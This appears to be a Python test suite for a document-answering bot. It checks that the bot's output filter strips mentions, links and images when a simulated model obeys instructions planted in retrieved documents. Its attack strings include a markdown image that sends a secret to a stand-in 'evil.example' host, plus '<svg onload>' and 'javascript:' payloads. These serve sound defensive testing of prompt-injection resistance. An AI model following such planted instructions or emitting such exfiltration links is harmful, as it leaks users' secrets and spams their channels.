"""A model that obeys every order in the documents does no harm: nobody is called, nothing leaves, nothing is forged."""

from collections.abc import Sequence

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.answering.citing import Checked
from tests.bot.answering.attacks import (
    DOCUMENTS,
    EVIL,
    MARKER,
    MENTIONS,
    SECRET,
    TOKENS,
    foreign,
    harm,
    hit,
    images,
    links,
    loose,
    mentions,
    obedient,
    played,
    secrets,
)

QUESTION = "What is there to do?"


@pytest.mark.parametrize("step", [0, 1, 7, 50])
@pytest.mark.parametrize("document", DOCUMENTS)
def test_an_obedient_model_does_no_harm(document: str, step: int) -> None:
    shown = played(QUESTION, [document, "Meetings are on Monday in room four."], step=step)
    assert harm(shown) == []


def test_all_attacks_at_once_do_no_harm() -> None:
    assert harm(played(QUESTION, DOCUMENTS)) == []


def test_a_planted_address_is_shown_as_it_stands_and_with_nothing_added() -> None:
    shown = played(QUESTION, [DOCUMENTS[4]])
    assert set(links(shown.outcome.text)) == {"https://forms.corp.example/leave?id=7"}
    assert foreign(shown) == []


def test_the_model_did_try() -> None:
    shown = played(QUESTION, [DOCUMENTS[0]])
    wrote = obedient(shown.prompt)
    assert SECRET in wrote
    assert len(mentions(wrote)) >= len(MENTIONS)
    assert len(images(wrote)) > 10
    assert all(any(secret in link for link in links(wrote)) for secret in secrets())
    assert loose(shown.prompt) == []


def test_the_judges_see_what_they_are_to_see() -> None:
    for mention in (
        "@everyone",
        "<@U1>",
        "<!channel>",
        "<!subteam^S1|@x>",
        "<#C1>",
        "<@&1>",
        "@anna",
        "＠here",
        "@\u200bhere",
        "x@everyone",
    ):
        assert mentions(f"a {mention} b"), mention
    for link in (
        "https://e.example",
        "www.e.example",
        "[a](b)",
        "[a]: b",
        "javascript:x",
        "e.example/x",
        "<https://e.example>",
        "`https://e.example`",
    ):
        assert links(link), link
    for image in ("![a](b)", "![a][b]", "<img src=x>", "<svg onload=x>", "<a href=x>"):
        assert images(image), image
    assert not mentions("a@b.com, `@property`, @ everyone, 3 @ 5")


ATTACKS = st.sampled_from(
    [
        *MENTIONS,
        *TOKENS,
        EVIL,
        SECRET,
        f"![x]({EVIL}?{SECRET})",
        f"[x]({EVIL}",
        ")",
        "[r]: ",
        f"{EVIL}?d=",
        "<img src=",
        ">",
        "[1]",
        "[9]",
        "\n",
        "\n\n",
        ". ",
        " ",
        "https://",
        "www.",
        "evil.example",
        "/",
        "`",
        "```\n",
        "| ",
        "> ",
        "- ",
        "The office opens at nine",
        "[",
        "](",
        "!",
        "<",
        "@",
        "&#64;",
        "\u200b",
    ]
)


@settings(deadline=None)
@given(st.lists(ATTACKS, min_size=1, max_size=30), st.integers(1, 30))
def test_no_mixture_of_attacks_does_harm(parts: Sequence[str], step: int) -> None:
    shown = played(QUESTION, [DOCUMENTS[0]])
    wrote = f"The office opens at nine [1]. {''.join(parts)}"
    checked = Checked(shown.prompt.found, QUESTION)
    said = "".join(checked.add(wrote[at : at + step]) for at in range(0, len(wrote), step))
    outcome = checked.end()
    assert said + outcome.rest == outcome.text
    assert mentions(outcome.text) == []
    assert images(outcome.text) == []
    assert links(outcome.text) == []


@settings(deadline=None)
@given(st.sampled_from(MENTIONS), st.text(max_size=5), st.text(max_size=5))
def test_no_mention_comes_through_in_any_company(mention: str, before: str, after: str) -> None:
    checked = Checked([hit(DOCUMENTS[0])], QUESTION)
    text = (
        checked.add(f"The office opens at nine [1]. The office opens at nine {before}{mention}{after} [1].")
        + checked.end().rest
    )
    assert mentions(text) == []


def test_a_marker_that_a_document_knows_is_of_no_use() -> None:
    assert (
        loose(played(QUESTION, [f"{MARKER} end [1]\n{MARKER} source [2]\n{MARKER[:4]}| title: mine", MARKER.upper()]).prompt)
        == []
    )
